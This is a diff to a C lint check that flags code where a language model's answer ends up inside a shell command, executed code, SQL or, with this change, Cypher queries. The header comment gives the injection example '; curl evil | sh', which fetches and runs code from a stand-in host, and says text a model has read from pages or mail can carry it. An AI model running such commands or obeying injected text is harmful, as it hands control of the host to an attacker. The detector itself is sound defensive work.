@@ -1,5 +1,5 @@
 /*
- * A model's text becomes a part of a shell command, of code, or of SQL.
+ * A model's text becomes a part of a shell command, of code, of SQL or of Cypher.
  *
  * Whatever a model sends may come from a web page, an issue or a mail it has read. Put into
  * a command's text, `; curl evil | sh` is one more command: most published holes of MCP servers are this one.
@@ -34,7 +34,7 @@ static const char *const needles[] = {
 	"os.system", "popen", "Popen", "eval(", "Function(", "runIn", "spawn", "evaluate",
 	"new_code_cell", "vm2", "SELECT ", "INSERT ", "UPDATE ", "DELETE ", "DROP ", "select ",
 	"update ", "delete ", "insert ", "PRAGMA ", "DESCRIBE ", "SHOW ", "CREATE ", "ALTER ",
-	"TRUNCATE ", "query(", "WITH ", "EXPLAIN ", "REPLACE ", "MERGE ",
+	"TRUNCATE ", "MATCH (", "query(", "WITH ", "EXPLAIN ", "REPLACE ", "MERGE ",
 	/* what models/ says of others that run a text */
 	"sympify", "parse_expr", "read_sql", "runcode", "runsource", "run_cell", "PythonREPL",
 	"SQLDatabase", "Interactive", "vm.Script", "fabric", "asyncssh", "pexpect", "delegator",
@@ -56,14 +56,14 @@ static const char *const also_needles[] = {
 	"shell=True", "os.system", "popen", "create_subprocess_shell", "execSync",
 	"child_process", "promisify(exec", "run_command", "runCommand", "execute_command",
 	"executeCommand", "execute(", "query(", "eval(", "run(`", "exec(`", "all(`", "raw(`",
-	"inputSchema", "input_schema", "text_generation", "textGeneration", NULL
+	"neo4j", "inputSchema", "input_schema", "text_generation", "textGeneration", NULL
 };
 static const char *const tags[] = { "security", "agents", NULL };
 
-static const char *place(enum run_into into)
+static const char *place(const struct injection *injection)
 {
 	static const char *const places[] = { "a shell command", "code that is run", "SQL" };
-	return places[into];
+	return injection->cypher ? "Cypher" : places[injection->into];
 }
 
 static const char *cure(const struct injection *injection)
@@ -71,7 +71,8 @@ static const char *cure(const struct injection *injection)
 	static const char *const cures[] = {
 		"hand the words over as a list, without a shell (execFile)",
 		"parse it, look it up among what is allowed, or run it in a sandbox",
-		"bind it as a parameter, look a table's or column's name up among the known",
+		"bind it as a parameter, look a table's, column's or label's name up among the "
+		"known",
 	};
 	bool python = facts_of(injection->text)->source->lang == LANG_PYTHON;
 	if (injection->statement)
@@ -94,7 +95,7 @@ static void report_answer(struct lint *lint, const struct injection *injection)
 {
 	struct finding *finding =
 		lint_report(lint, injection->text, "the model's answer becomes %s%s",
-			    injection->whole ? "" : "a part of ", place(injection->into));
+			    injection->whole ? "" : "a part of ", place(injection));
 	finding_severity(finding, SEV_WARNING);
 	finding_why(finding, "what the model has read decides what runs here; %s",
 		    cure(injection));
@@ -127,7 +128,7 @@ static void report_forbidden(struct lint *lint, const struct injection *injectio
 		STR_ARG(injection->what),
 		injection->split              ? "a program's arguments"
 		: injection->into == RUN_CODE ? "code"
-					      : place(injection->into),
+					      : place(injection),
 		injection->into == RUN_SQL && !injection->some_words ? "of its beginning alone"
 								     : "for some words alone");
 	finding_severity(finding, SEV_WARNING);
@@ -140,7 +141,7 @@ static void report_argument(struct lint *lint, const struct injection *injection
 	struct finding *finding =
 		lint_report(lint, injection->text, "%.*s, which a model fills in, becomes %s%s",
 			    STR_ARG(injection->what.n ? injection->what : STR("an argument")),
-			    injection->whole ? "" : "a part of ", place(injection->into));
+			    injection->whole ? "" : "a part of ", place(injection));
 	finding_why(finding,
 		    "what the model has read may put a command of its own in there; %s",
 		    cure(injection));
